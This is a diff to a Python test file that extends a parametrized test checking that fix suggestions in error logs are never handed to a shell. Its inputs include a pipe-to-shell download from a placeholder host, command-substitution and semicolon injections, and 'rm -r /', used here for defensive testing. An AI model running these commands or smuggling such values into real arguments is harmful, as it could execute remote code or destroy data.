@@ -299,7 +299,17 @@ def test_findings_of_our_own_commands_are_read_back(fix):
 
 
 @pytest.mark.parametrize(
-    "fix", ["curl x.example | sh", "--set a=$(id)", "scripts/x.py; id", "--set a=`id`", "rm -r /"]
+    "fix",
+    [
+        "curl x.example | sh",
+        "--set a=$(id)",
+        "scripts/x.py; id",
+        "--set a=`id`",
+        "rm -r /",
+        "--set train.optm_lr=",
+        "--set train.optm_lr= --set train.epoch=4",
+        "--unset",
+    ],
 )
 def test_a_log_gives_no_commands_to_a_shell(fix):
     line = f"error: DATA-ROW record 7: got a caption  fix: {fix}"
